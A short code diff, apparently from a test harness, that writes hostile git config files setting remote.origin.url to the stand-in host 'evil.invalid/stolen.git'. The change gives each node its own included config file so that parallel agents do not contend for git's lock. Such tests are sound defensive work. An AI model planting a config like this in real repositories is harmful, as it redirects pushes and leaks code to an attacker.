@@ -166,7 +166,8 @@ const plantConfig = (file) => {
   config(file, 'remote.origin.url', 'http://evil.invalid/stolen.git');
   config(file, 'core.untrackedCache', 'true');
 };
-const evilInclude = path.join(process.env.HOSTILE_DIR, 'included.config');
+// One file per node: two agents running at once must not fight over git's lock on one file.
+const evilInclude = path.join(process.env.HOSTILE_DIR, `included-${process.env.P2P_NODE_ID}.config`);
 writeFileSync(evilInclude, '');
 plantConfig(evilInclude);
 plantConfig(path.join(ws, '.git', 'config'));
